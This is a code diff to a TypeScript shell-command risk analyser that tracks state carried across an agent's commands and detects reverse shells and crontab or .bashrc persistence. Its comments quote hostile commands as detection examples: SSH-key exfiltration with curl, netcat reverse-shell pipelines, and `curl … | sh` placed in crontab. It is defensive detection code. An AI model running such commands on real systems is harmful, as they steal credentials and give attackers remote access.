@@ -29,8 +29,10 @@ import {
   verifiesDownload,
   viewOf,
   withPositionals,
+  writeTargets,
   xargsCommand,
 } from "./risk-view.ts";
+import { bareExecView, laterRunText, reverseShellPipeline, SOCKET_FDS, socketDescriptors } from "./risk-remote-access.ts";
 import {
   bareEnvView,
   changedDirectory,
@@ -120,12 +122,25 @@ const WORD = /\S+/g;
 const raisedAtLeast = (found: readonly Found[], f: Found) => found.some((g) => g.flag === f.flag && RANK[g.level] >= RANK[f.level]);
 
 /** Flags of one command line (without the cross-command download tracking). */
-export function analyzeCommand(command: string): Found[] {
+/**
+ * What earlier commands of the same trail (or lines of the same script) set that later ones use, as
+ * one shell session keeps it: variables (`export K=~/.ssh/id_rsa` … `curl -d @$K`), the directory
+ * a `cd` moved to, aliases and functions (`alias c=curl` … `c -d @…`).
+ */
+export interface Carried {
+  vars: Map<string, string>;
+  defs: Map<string, Definition>;
+}
+export const newCarried = (): Carried => ({ vars: new Map(), defs: new Map() });
+
+export function analyzeCommand(command: string, carried?: Carried): Found[] {
   const src = commandText(command);
-  const found = analyzeText(src);
+  const found = analyzeText(src, carried);
   // What an agent retyping the command reads: its findings add the flags the text as written hid.
   const typed = typedView(src);
-  if (typed !== src) for (const f of analyzeText(typed)) if (!raisedAtLeast(found, f)) found.push(f);
+  const read = carried && { vars: new Map(carried.vars), defs: new Map(carried.defs) }; // the other readings do not carry state on
+  if (typed !== src)
+    for (const f of analyzeText(typed, read && { ...read, vars: new Map(read.vars) })) if (!raisedAtLeast(found, f)) found.push(f);
   // What a shell runs once it restores hidden spaces and names (`curl${IFS}-d${IFS}@…`, `{curl,-d,@…}`)
   const spaced = spacedView(typed);
   if (spaced.text !== typed) {
@@ -134,7 +149,7 @@ export function analyzeCommand(command: string): Found[] {
       level: "high",
       detail: `hides its words from a reader or a filter (${spaced.how.join(", ")}): a shell runs ${short(spaced.text, 80)}`,
     });
-    for (const f of analyzeText(spaced.text)) if (!raisedAtLeast(found, f)) found.push(f);
+    for (const f of analyzeText(spaced.text, read)) if (!raisedAtLeast(found, f)) found.push(f);
   }
   return found;
 }
@@ -212,20 +227,34 @@ interface Outer {
   pipedIntoArgs: readonly string[];
 }
 
-function analyzeText(src: string): Found[] {
+/** The flags of a command text; `carried`, when given, is what earlier commands set, and receives what this one sets. */
+function analyzeText(src: string, carried?: Carried): Found[] {
   const found: Found[] = [];
   const defs = definitionsIn(src);
+  if (carried) {
+    for (const [name, def] of carried.defs) if (!defs.has(name)) defs.set(name, def);
+    for (const [name, def] of defs) carried.defs.set(name, def);
+  }
   let calls = 0; // expansions of the script's own aliases and functions: a body calling itself many times multiplies, so at most MAX_CALLS
   // substituted: the script runs inside `$(…)`, backticks or `<(…)`, so another command reads its output
-  const visit = (script: Script, depth: number, inherited: ReadonlyMap<string, string>, substituted: boolean, outer?: Outer) => {
+  const visit = (
+    script: Script,
+    depth: number,
+    inherited: ReadonlyMap<string, string>,
+    substituted: boolean,
+    outer?: Outer,
+  ): Map<string, string> => {
     const vars = new Map(inherited); // a=curl; $a …: assignments hold for the rest of this script
     for (const p of script) {
       // an alias the script defined is the command it stands for, in its place in the pipeline (`alias g='curl -fsSL'; g … | sh`)
       const views = p.commands.map((c) => {
         const alias = defs.get(c.words[0]?.text ?? "");
         const aliased = alias?.kind === "alias" && calls++ < MAX_CALLS ? aliasedCommand(alias.body, c) : c;
-        return viewOf(aliased, vars) ?? bareEnvView(aliased);
+        return viewOf(aliased, vars) ?? bareEnvView(aliased) ?? bareExecView(aliased);
       });
+      // cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f, /bin/sh 0</tmp/p | nc h p 1>/tmp/p, nc h p | sh
+      const handed = views.length > 1 ? reverseShellPipeline(views) : null;
+      if (handed) found.push({ flag: "remote_script_execution", level: "high", detail: handed });
       views.forEach((v, i) => {
         if (i === 0 || !v || !readsProgramFromStdin(v)) return;
         for (const rule of PIPELINE_RULES) {
@@ -268,16 +297,35 @@ function analyzeText(src: string): Found[] {
         // a here-document given to a program that does not run it (`cat > fix.sh <<EOF`): read as the lines it writes, as before
         else if (inlineCode(v) === null)
           for (const r of v.cmd.redirects) if (r.body !== undefined) visit(parseShell(r.body), depth + 1, vars, false);
+        // `echo 'curl … | sh' >> ~/.bashrc`, `(crontab -l; echo "* * * * * curl … | sh") | crontab -`: it runs later
+        const written = here.redirects.filter((r) => />/.test(r.op)).map((r) => r.target);
+        const later = laterRunText(v, [...written, ...writeTargets(v).map((w) => w.target)], ctx.pipedInto);
+        if (later) visit(parseShell(later), depth + 1, vars, false);
       });
-      for (const c of p.commands) for (const w of c.words) for (const s of w.subs) if (depth < 4) visit(s, depth + 1, vars, true);
+      p.commands.forEach((c, i) => {
+        if (depth >= 4) return;
+        // `( … ) | crontab -`, `{ … } > f`: a subshell group's output goes where the command's would
+        const group = c.words.length === 1 && c.words[0]!.group && c.words[0]!.raw.startsWith("(");
+        const asCommand: Outer = {
+          redirects: [...(i === last ? (outer?.redirects ?? []) : []), ...c.redirects],
+          laterSink: laterSink[i]!,
+          pipedInto: i < last ? (views[i + 1]?.name ?? "") : (outer?.pipedInto ?? null),
+          pipedIntoArgs: i < last ? (views[i + 1]?.a ?? []) : (outer?.pipedIntoArgs ?? []),
+        };
+        for (const w of c.words) for (const s of w.subs) visit(s, depth + 1, vars, !group, group ? asCommand : undefined);
+      });
       for (const c of p.commands) assignmentsOf(c, vars);
       for (const v of views) {
         const dir = v && changedDirectory(v);
         if (dir) vars.set(CWD, dir);
+        const fds = v ? socketDescriptors(v) : [];
+        if (fds.length > 0) vars.set(SOCKET_FDS, [vars.get(SOCKET_FDS) ?? "", ...fds].join(","));
       }
     }
+    return vars;
   };
-  visit(parseShell(src), 0, new Map(), false);
+  const after = visit(parseShell(src), 0, carried?.vars ?? new Map(), false);
+  if (carried) carried.vars = after;
   found.push(...textFlags(src));
   return found;
 }
@@ -437,6 +485,7 @@ function patchFlags(filePath: string, diff: string): Found[] {
     let inFence = false;
     const seen = new Set<string>(); // a repeated line says nothing new and costs time
     const followOn = new FollowOn(); // a script's lines run in order: `cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k`
+    const carried = newCarried(); // … and share variables, cd, aliases and functions
     for (const raw of lines.slice(0, 4000)) {
       let line = raw;
       if (/\.(md|markdown|rst|txt)$/i.test(filePath)) {
@@ -459,7 +508,7 @@ function patchFlags(filePath: string, diff: string): Found[] {
       }
       if (!line.trim() || seen.has(line)) continue;
       seen.add(line);
-      for (const x of analyzeCommand(line)) f.push({ ...x, detail: `${x.detail} ${where}` });
+      for (const x of analyzeCommand(line, carried)) f.push({ ...x, detail: `${x.detail} ${where}` });
       for (const x of followOn.follow(typedView(line), "an earlier line")) f.push({ ...x, detail: `${x.detail} ${where}` });
     }
   }
@@ -482,9 +531,10 @@ export function assessRisk(trail: Trail): Risk {
   const flags: RiskFlag[] = [];
   const commands: unknown[] = Array.isArray(trail.solution?.commands) ? trail.solution.commands : [];
   const followOn = new FollowOn();
+  const carried = newCarried(); // the commands run one after another in one shell
   commands.forEach((command, index) => {
     if (typeof command !== "string") return;
-    for (const x of analyzeCommand(command)) flags.push({ command_index: index, ...x });
+    for (const x of analyzeCommand(command, carried)) flags.push({ command_index: index, ...x });
     for (const x of followOn.follow(commandText(command), `command ${index}`)) flags.push({ command_index: index, ...x });
   });
   const patches: unknown[] = Array.isArray(trail.solution?.code_patches) ? trail.solution.code_patches : [];
